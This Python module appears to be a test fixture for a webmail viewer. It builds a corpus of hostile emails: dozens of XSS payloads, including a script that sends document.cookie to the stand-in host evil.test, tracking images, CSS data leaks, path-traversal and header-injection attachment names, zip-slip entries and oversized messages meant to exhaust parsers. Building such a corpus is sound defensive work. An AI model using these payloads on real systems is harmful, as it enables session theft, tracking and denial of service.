"""Mail that wants to do harm to who reads it in a browser, or to the server that shows it.

``HTML`` are bodies that try to run script, to reach the page around them, to navigate, or to tell another host that
they were read. Each of them holds ``HARMLESS``, which a reader shall see. ``MESSAGES`` are whole messages that are odd
or large. What tries to reach a host asks one below ``evil.test``; what runs says so by :data:`RAN`.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage

__all__ = ["FILENAMES", "HARMLESS", "HTML", "MESSAGES", "PART_TYPES", "html_message", "picture", "with_parts"]

HARMLESS = "harmless words"
RAN = (
    "try{top.document.title='ran'}catch(e){}try{parent.ran=1}catch(e){}try{window.ran=1}catch(e){}"
    "try{top.location='https://evil.test/top'}catch(e){}"
    "new Image().src='https://evil.test/ran?'+encodeURIComponent(document.cookie);alert('ran')"
)
"""Script that leaves a mark wherever it can."""
_QUOTED = RAN.replace("'", "&#39;")
_ENCODED = base64.b64encode(f"<script>{RAN}</script>".encode()).decode()
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_QUOTED}"><script>{RAN}</script></svg>'
_SVG_ENCODED = base64.b64encode(_SVG.encode()).decode()

_SCRIPT = {
    "script": f"<script>{RAN}</script>",
    "script from elsewhere": '<script src="https://evil.test/x.js"></script>',
    "module": f"<script type=module>{RAN}</script><script type=module src=https://evil.test/m.js></script>",
    "script in the head": f"<html><head><script>{RAN}</script></head><body>",
    "script of ours": '<script src="/static/app.js"></script><script src="/api/v1/messages"></script>',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/s"]}]}</script>',
    "import map": '<script type=importmap>{"imports":{"a":"https://evil.test/a"}}</script>',
    "error of a picture": f'<img src=x: onerror="{_QUOTED}">',
    "load of the body": f'<body onload="{_QUOTED}" onpageshow="{_QUOTED}" onresize="{_QUOTED}">',
    "load of a style": f'<style onload="{_QUOTED}">p {{ color: green }}</style>',
    "focus": f'<input autofocus onfocus="{_QUOTED}"><a href="#x" id=x tabindex=0 onfocus="{_QUOTED}">x</a>',
    "toggle": f'<details open ontoggle="{_QUOTED}"><summary>s</summary>d</details>',
    "animation": f'<style>@keyframes k {{}} b {{ animation: k 1s }}</style><b onanimationstart="{_QUOTED}">b</b>',
    "transition": f'<style>i {{ transition: 1s }}</style><i onwebkittransitionend="{_QUOTED}">i</i>',
    "media error": f'<video><source onerror="{_QUOTED}" src=x:></video><audio src=x: onerror="{_QUOTED}"></audio>',
    "marquee": f'<marquee onstart="{_QUOTED}">m</marquee>',
    "content visibility": f'<p style="content-visibility:auto" oncontentvisibilityautostatechange="{_QUOTED}">x',
    "broken attribute": f'<img/src="x:"/onerror="{_QUOTED}"/ ="">',
    "upper case and slashes": f'<IMG/SRC="x:"/ONERROR="{_QUOTED}">',
    "nul in a name": f'<scr\0ipt>{RAN}</scr\0ipt><img\0src=x: onerror="{_QUOTED}">',
    "script uri": f'<a id=click href="javascript:{_QUOTED}">click</a>',
    "script uri with controls": f'<a id=click href="\x01java&#10;script&colon;{_QUOTED}">click</a>',
    "script uri of an area": f'<map name=m><area href="javascript:{_QUOTED}" shape=default></map><img usemap="#m">',
    "script uri of a frame": f'<iframe src="javascript:{_QUOTED}"></iframe>',
    "script uri of an object": f'<object data="javascript:{_QUOTED}"></object><embed src="javascript:{_QUOTED}">',
    "script uri of a form": f'<form action="javascript:{_QUOTED}"><button id=click>send</button></form>',
    "script uri of mathml": f'<math><mtext href="javascript:{_QUOTED}" id=click>x</mtext></math>',
    "refresh to a script uri": f'<meta http-equiv=refresh content="0;url=javascript:{_QUOTED}">',
    "srcdoc": f'<iframe srcdoc="<script>{_QUOTED}</script><img src=x: onerror=&quot;{_QUOTED}&quot;>"></iframe>',
    "srcdoc that opens itself": f'<iframe sandbox="allow-scripts allow-same-origin"'
    f' srcdoc="<script>{_QUOTED}</script>">'
    "</iframe>",
    "data uri of a frame": f'<iframe src="data:text/html;base64,{_ENCODED}"></iframe>',
    "data uri of an object": f'<object data="data:text/html;base64,{_ENCODED}" type=text/html></object>',
    "data uri of an embed": f'<embed src="data:image/svg+xml;base64,{_SVG_ENCODED}" type="image/svg+xml">',
    "svg": _SVG,
    "svg that animates": f'<svg><animate onbegin="{_QUOTED}" attributeName=x dur=1s /></svg>',
    "svg that sets a link": f'<svg><a id=click><set attributeName=href to="javascript:{_QUOTED}" />'
    "<text y=9>t</text></a></svg>",
    "svg with foreign objects": f"<svg><foreignObject><script>{RAN}</script></foreignObject></svg>",
    "svg that uses data": f'<svg><use href="data:image/svg+xml;base64,{_SVG_ENCODED}#x"/></svg>',
    "svg picture": f'<img src="data:image/svg+xml;base64,{_SVG_ENCODED}">',
    "shadow root": f"<div><template shadowrootmode=open><script>{RAN}</script></template></div>",
    "template": f"<template><script>{RAN}</script></template>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x: onerror={_QUOTED.replace(" ", "&#32;")}>">',
    "mutation by svg style": f'<svg></p><style><a id="</style><img src=x: onerror=&quot;{_QUOTED}&quot;>">',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x: onerror=&quot;{_QUOTED}&quot;&gt;">',
    "comment that ends early": f'<!--><img src=x: onerror="{_QUOTED}">-->',
    "comment that ends oddly": f'<!-- --!><img src=x: onerror="{_QUOTED}">',
    "cdata": f'<![CDATA[ ]]><img src=x: onerror="{_QUOTED}">',
    "out of an attribute": f"\"><script>{RAN}</script>'><script>{RAN}</script>",
    "out of a frame": f"</iframe></body></html><script>{RAN}</script>",
    "out of a script": f"</script></textarea></title></style>-->]]><script>{RAN}</script>",
    "template languages": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
    "custom element": f'<x-y onclick="{_QUOTED}" id=click>click</x-y>',
    "popover": f'<button popovertarget=p id=click>o</button><div popover id=p onbeforetoggle="{_QUOTED}">d</div>',
    "dialog": f'<dialog open oncancel="{_QUOTED}">d</dialog>',
    "clobbered names": "<form id=document><input name=cookie></form><img name=getElementById><a id=location href=x:>",
}
_PLACES = {
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.test/refresh">',
    "refresh to data": f'<meta http-equiv=refresh content="0;url=data:text/html;base64,{_ENCODED}">',
    "refresh of noscript": '<noscript><meta http-equiv=refresh content="0;url=https://evil.test/noscript"></noscript>',
    "base": '<base href="https://evil.test/" target=_top><img src="base.png"><a id=click href="clicked">click</a>',
    "link to the top": '<a id=click target=_top href="https://evil.test/top">click</a>',
    "link to the parent": '<a id=click target=_parent href="https://evil.test/parent">click</a>',
    "frame": '<iframe src="https://evil.test/frame"></iframe>',
    "frame of ours": '<iframe src="/"></iframe><iframe src="/api/v1/messages"></iframe>',
    "frame set": '<frameset><frame src="https://evil.test/frameset"></frameset>',
    "object": '<object data="https://evil.test/o"></object><embed src="https://evil.test/e"><applet code=x></applet>',
    "portal": '<portal src="https://evil.test/portal"></portal><fencedframe src="https://evil.test/fence">',
    "form": '<form action="https://evil.test/form" method=post><input name=a><button id=click>send</button></form>',
    "form to us": '<form action="/api/v1/messages" method=post enctype=text/plain>'
    "<button id=click>send</button></form>",
    "form by get to us": '<form action="/view/latest"><input name=query><button id=click>send</button></form>',
    "form of a button": '<form><button id=click formaction="https://evil.test/b" formmethod=post>b</button></form>',
    "dialog form": "<form method=dialog><button id=click>send</button></form>",
    "policy of its own": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src="https://evil.test/p">',
    "cookie": '<meta http-equiv=Set-Cookie content="a=b">',
    "manifest": '<html manifest="https://evil.test/m"><link rel=manifest href="https://evil.test/m.json">',
    "cover": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Log in:<input type=password></div>',
    "giant": '<div style="width:1e9px;height:1e9px">x</div>',
}
_TOLD = {
    "picture": '<img src="https://evil.test/track.png" srcset="https://evil.test/2.png 2x" width=1 height=1>',
    "picture of no scheme": '<img src="//evil.test/track.png"><img src="\\\\evil.test\\track.png">',
    "picture source": '<picture><source srcset="https://evil.test/s.png"><img src="https://evil.test/i.png"></picture>',
    "picture by ftp": '<img src="ftp://evil.test/x.png"><img src="http://user:password@evil.test/x.png">',
    "lazy picture": '<img loading=lazy src="https://evil.test/lazy.png">',
    "picture of an input": '<input type=image src="https://evil.test/i.png">',
    "background": '<body background="https://evil.test/b.png">'
    '<table background="https://evil.test/t.png"><td>x</table>',
    "media": '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video>'
    '<audio src="//evil.test/a" autoplay></audio><video autoplay><track default src="https://evil.test/t.vtt"></video>',
    "svg image": '<svg><image href="https://evil.test/i.png"/><use href="https://evil.test/u#x"/>'
    '<filter id=f><feImage href="https://evil.test/f"/></filter></svg>',
    "style sheet": '<link rel=stylesheet href="https://evil.test/s.css">',
    "style import": '<style>@import "https://evil.test/i.css"; @import url(//evil.test/j.css);</style>',
    "style picture": "<style>body { background: url(https://evil.test/b.png); cursor: url(https://evil.test/c), auto }"
    ' p::after { content: url("https://evil.test/a.png") }</style><p>x</p>',
    "style attribute": '<p style="background:url(https://evil.test/x);list-style-image:url(//evil.test/y);'
    'border-image:url(https://evil.test/z);mask:url(https://evil.test/m)">x</p>',
    "style by escapes": '<p style="background:\\75\\72\\6C(https://evil.test/x)">x</p>',
    "style font": "<style>@font-face { font-family: f; src: url(https://evil.test/f.woff) }"
    " b { font-family: f }</style><b>b</b>",
    "style that asks": '<style>input[value^="s"] { background: url(https://evil.test/s) }'
    ' input:not([value=""]) { background: image-set("https://evil.test/t" 1x) }</style><input value=secret>',
    "style of old browsers": "<p style=\"width:expression(alert(1));behavior:url(x);-moz-binding:url('https://evil.test/x')\">",
    "style with variables": '<p style="--u:url(https://evil.test/v);background:var(--u)">x</p>',
    "prefetch": '<link rel=prefetch href="https://evil.test/p"><link rel=prerender href="https://evil.test/r">'
    '<link rel=preload as=image href="https://evil.test/l"><link rel=modulepreload href="https://evil.test/m">',
    "preconnect": '<link rel=preconnect href="https://evil.test"><link rel="dns-prefetch" href="//evil.test">',
    "preconnect in odd letters": '<LiNk\nReL="x PreConnect"\nhref="//evil.test"><link/rel=preconnect/href=http://evil.test>',
    "icon": '<link rel="shortcut icon" href="https://evil.test/i.ico"><link rel=apple-touch-icon href="//evil.test/a">',
    "ping": '<a id=click href="#x" ping="https://evil.test/ping">click</a>',
    "search engine": '<link rel=search type="application/opensearchdescription+xml" href="https://evil.test/o.xml">',
    "lists of downloads": '<a id=click download="x.html" href="https://evil.test/download">click</a>',
    "xml style sheet": '<?xml-stylesheet href="https://evil.test/x.xsl" type="text/xsl"?>',
    "cid that is none": '<img src="cid:nobody@x"><img src="cid:../../../../messages"><img src=\'cid:"><script>\'>',
}
HTML: dict[str, str] = {
    name: f"{fragment}<p>{HARMLESS}</p>" if not fragment.startswith("<html") else f"<p>{HARMLESS}</p>{fragment}"
    for name, fragment in {**_SCRIPT, **_PLACES, **_TOLD}.items()
}
"""Bodies by what they try. An element with the id ``click`` is there to be clicked."""
# What stands in the text of these begins before their words: raw text and a frame set hide all that follows.
for _hiding in ("mutation by svg style", "mutation by noscript", "mutation by math", "frame set", "out of a frame"):
    HTML[_hiding] = f"<p>{HARMLESS}</p>" + HTML[_hiding]


def html_message(html: str, subject: str = "hostile") -> bytes:
    """A message whose only body is this HTML, as 8-bit text."""
    head = f"From: Eve <eve@evil.test>\r\nTo: bob@example.test\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n"
    return head.encode() + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()


def with_parts(html: str, *parts: bytes, kind: str = "mixed") -> bytes:
    """A message of HTML and further parts; each part is its header and its body, as bytes."""
    first = b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()
    pieces = b"".join(b"--b\r\n" + part + b"\r\n" for part in (first, *parts))
    head = b"From: eve@evil.test\r\nTo: bob@example.test\r\nSubject: parts\r\nMIME-Version: 1.0\r\n"
    return head + b'Content-Type: multipart/%b; boundary="b"\r\n\r\n' % kind.encode() + pieces + b"--b--\r\n"


def picture(width: int = 1, height: int = 1) -> bytes:
    """A PNG, small however large it says it is: its rows are never there, but for those of a true one."""
    rows = zlib.compress(
        b"".join(b"\0" + b"\x80" * 3 * width for _ in range(height)) if width * height < 10_000 else b""
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


FILENAMES: dict[str, str] = {
    "unix path": 'filename="../../../etc/passwd"',
    "windows path": 'filename="C:\\\\Windows\\\\..\\\\evil.exe"',
    "hidden file": 'filename=".bashrc"',
    "dots alone": 'filename=".."',
    "quotes": 'filename="a\\"; filename=\\"evil.exe"',
    "line ends": 'filename="=?utf-8?q?a=0D=0AX-Evil:_1=0D=0A=0D=0Abody.txt?="',
    "line ends, extended": "filename*=utf-8''a%0D%0AX-Evil%3A%201%0D%0A%0D%0Abody.txt",
    "folded": 'filename="a\r\n b.txt"',
    "right to left": "filename*=utf-8''invoice%E2%80%AEgpj.exe",
    "isolates": "filename*=utf-8''%E2%81%A6%E2%80%AE%E2%81%A9cod.exe",
    "nul": "filename*=utf-8''a%00.exe%00.txt",
    "line separators": "filename*=utf-8''a%E2%80%A8b%C2%85c.txt",
    "extended path": "filename*=utf-8''..%2F..%2Fetc%2Fpasswd",
    "percent signs": 'filename="%2e%2e%2f%00.txt"',
    "broken percent signs": "filename*=utf-8''%zz%f",
    "broken charset": "filename*=bogus'x'%ff%fe.txt",
    "broken utf-8": "filename*=utf-8''%ed%a0%80%ff.txt",
    "continued": "filename*0*=utf-8''..%2F; filename*1=\"../x\"; filename*2*=%0D%0A.txt",
    "script": 'filename="<script>alert(1)</script>.txt"',
    "attribute": "filename=\"' onmouseover=alert(1) x='.txt\"",
    "long": f'filename="{"x" * 5000}.txt"',
    "device": 'filename="CON"',
    "stream": 'filename="a.txt::$DATA"',
    "nothing": 'filename=""',
    "emoji": "filename*=utf-8''%F0%9F%92%A9.txt",
}
"""Content-Disposition parameters of attachments whose names want out."""

PART_TYPES: dict[str, tuple[str, bytes]] = {
    "html": ("text/html", f"<script>{RAN}</script>".encode()),
    "xhtml": (
        "application/xhtml+xml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{RAN}</script></html>".encode(),
    ),
    "svg": ("image/svg+xml", _SVG.encode()),
    "xml": ("text/xml", f"<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{RAN}</h:script></x>".encode()),
    "xsl": ("application/xslt+xml", b'<?xml-stylesheet href="https://evil.test/x.xsl" type="text/xsl"?><x/>'),
    "script": ("text/javascript", RAN.encode()),
    "html called text": ("text/plain", f"<html><script>{RAN}</script>".encode()),
    "html called a picture": ("image/png", f"<html><script>{RAN}</script>".encode()),
    "html called nothing": ("application/octet-stream", f"<html><script>{RAN}</script>".encode()),
    "header in the type": ('text/html\r\n ;x="\r\n y"', b"x"),
    "type that is none": ('"><script>', b"x"),
    "charset that is none": ('text/plain; charset="x\\"\\r\\ny"', b"x"),
    "utf-7": ("text/plain; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "multipart without parts": ('multipart/mixed; boundary=""', b"x"),
}
"""Types and contents of attachments that would be pages if a browser took them for some."""


def _nested(depth: int) -> bytes:
    head = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(depth))
    return head + b"Content-Type: text/plain\r\n\r\ndeep\r\n"


def _forwarded(depth: int) -> bytes:
    return b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: in\r\n\r\nbody\r\n"


def _many_parts() -> bytes:
    return b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 10_000 + b"--b--\r\n"


def _many_pictures() -> bytes:
    """10,000 pictures, and a megabyte of HTML that shows none of them."""
    part = b"Content-Type: image/png\r\nContent-ID: <%d@x>\r\n\r\nx"
    return with_parts("<p>words</p>" * 80_000, *(part % number for number in range(10_000)), kind="related")


def _one_picture_often() -> bytes:
    """A picture of a quarter of a megabyte, shown 20,000 times."""
    part = b"Content-Type: image/png\r\nContent-ID: <p@x>\r\n\r\n" + b"x" * (1 << 18)
    return with_parts('<img src="cid:p@x">' * 20_000, part, kind="related")


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("../../evil.txt", "/etc/passwd", "C:\\evil.txt", "a\u202egpj.exe", "x" * 60_000):
            archive.writestr(name, "x")
    message = EmailMessage()
    message["Subject"] = "zip"
    message.set_content(HARMLESS)
    message.add_attachment(out.getvalue(), maintype="application", subtype="zip", filename="../up.zip")
    return bytes(message)


def _html(body: str) -> Callable[[], bytes]:
    return lambda: html_message(body)


MESSAGES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "no header": lambda: b"\r\n\r\nbody",
    "no body": lambda: b"Subject: x",
    "subject of 10 MB": lambda: b"Subject: " + b"x" * 10_000_000 + b"\r\n\r\nbody",
    "encoded subject of 10 MB": lambda: b"Subject:" + (b" =?utf-8?q?%b?=\r\n" % (b"x" * 180)) * 50_000 + b"\r\nbody",
    "100,000 encoded words": lambda: b"Subject:" + b" =?utf-8?q?x?=\r\n" * 100_000 + b"\r\nbody",
    "subject that is script": lambda: b"Subject: <script>alert(1)</script><img src=x: onerror=alert(1)>\r\n\r\nx",
    "subject with line ends": lambda: b"Subject: =?utf-8?q?a=0D=0ASet-Cookie:_x=3D1=0D=0A=0D=0A<p>?=\r\n\r\nx",
    "subject of marks": lambda: "Subject: a\u202egnp.exe ".encode() + "e\u0301\u0316".encode() * 20_000 + b"\r\n\r\nx",
    "name that is script": lambda: b'From: "<img src=x: onerror=alert(1)>" <"><script>alert(1)</script>"@x>\r\n\r\nx',
    "bytes that are no text": lambda: b"From: \xff\xfe\r\nSubject: =?bogus?q?x?= =?utf-8?b?!!!?=\r\n\r\n\xff\x00\xfe",
    "header of controls": lambda: (
        b"Subject: \x00\x01\x1b[31m\x7f\xc2\x85\r\nX-\x00: 1\r\n: no name\r\nno colon\r\n\r\n\x00"
    ),
    "50,000 header fields": lambda: b"X-A: b\r\n" * 50_000 + b"\r\nx",
    "10,000 recipients": lambda: b"To: " + b"".join(b"a%d@x,\r\n " % n for n in range(10_000)) + b"b@x\r\n\r\nx",
    "comments without end": lambda: b"From: " + b"(" * 200_000 + b"\r\nTo: " + b'"' * 200_001 + b"\r\n\r\nx",
    "brackets without end": lambda: b"From: " + b"<" * 200_000 + b"\r\nDate: " + b"(" * 100_000 + b"\r\n\r\nx",
    "10,000 parts": _many_parts,
    "10,000 pictures": _many_pictures,
    "one picture often": _one_picture_often,
    "parts in parts": lambda: _nested(2000),
    "messages in messages": lambda: _forwarded(2000),
    "parameters without end": lambda: b"Content-Type: text/plain" + b'; a*1="b"' * 50_000 + b"\r\n\r\nx",
    "boundary that is everywhere": lambda: b'Content-Type: multipart/mixed; boundary=""\r\n\r\n' + b"--\r\n" * 100_000,
    "boundary that is a pattern": lambda: b'Content-Type: multipart/mixed; boundary="(a+)+$"\r\n\r\n--(a+)+$\r\n\r\nx',
    "encoding that is none": lambda: b"Content-Transfer-Encoding: x-evil\r\n\r\nx",
    "base64 that is none": lambda: b"Content-Transfer-Encoding: base64\r\n\r\n" + b"!=A" * 200_000,
    "line of 10 MB": lambda: b"Subject: x\r\n\r\n" + b"x" * 10_000_000,
    "link of 1 MB": lambda: b"Subject: x\r\n\r\nhttps://evil.test/" + b"x" * 1_000_000,
    "20,000 links": lambda: b"Subject: x\r\n\r\n" + b"".join(b"https://evil.test/%d\r\n" % n for n in range(20_000)),
    "unsubscribe by script": lambda: b"List-Unsubscribe: <javascript:alert(1)>, <https://evil.test/>\r\n\r\nx",
    "tags that are script": lambda: b'X-Tags: <script>alert(1)</script>, ok, "><img src=x:>\r\n\r\nx',
    "picture that says it is giant": lambda: with_parts(
        "x", b"Content-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(picture(60_000, 60_000)),
    ),
    "zip with paths": _zip,
    "elements in elements": _html("<div>" * 100_000 + HARMLESS),
    "tags without end": _html("<p " * 200_000),
    "attributes without end": _html("<p" + " a='" * 200_000),
    "comments in comments": _html("<!--" * 100_000 + "<![CDATA[" * 100_000 + "<!" * 100_000),
    "references without end": _html("&" * 200_000 + "&#x110000;&#xD800;&#0;" * 10_000),
    "style without end": _html("<style>" + "a{" * 200_000 + "/*" * 100_000),
    "links without host": _html("<a href='http://[::1'>x</a><a href='http://a:99999/'>y</a><a href='http://'>z</a>"),
}  # fmt: skip
"""Whole messages, made when asked for: some are large."""
for _charset in (
    "utf-7",
    "utf-16",
    "utf-32",
    "hz",
    "iso-2022-kr",
    "idna",
    "punycode",
    "rot13",
    "zip",
    "unicode_escape",
    "x" * 999,
):
    MESSAGES[f"charset {_charset[:20]}"] = lambda charset=_charset: (
        b"Content-Type: text/html; charset="
        + charset.encode()
        + b"\r\n\r\n+ADw-script+AD4-alert(1)\\x3c\xff\x1b$)C" * 1000
    )


def hostile_messages() -> Iterator[tuple[str, bytes]]:
    """Every message of the corpus with its name: bodies, file names, types of parts and oddities."""
    for name, html in HTML.items():
        yield f"html: {name}", html_message(html)
    for name, parameter in FILENAMES.items():
        head = f"Content-Type: text/plain\r\nContent-Disposition: attachment; {parameter}\r\n\r\nx"
        yield f"file name: {name}", with_parts(HARMLESS, head.encode())
    for name, (kind, content) in PART_TYPES.items():
        yield f"part: {name}", with_parts(HARMLESS, f"Content-Type: {kind}\r\n\r\n".encode() + content)
    for name, make in MESSAGES.items():
        yield name, make()
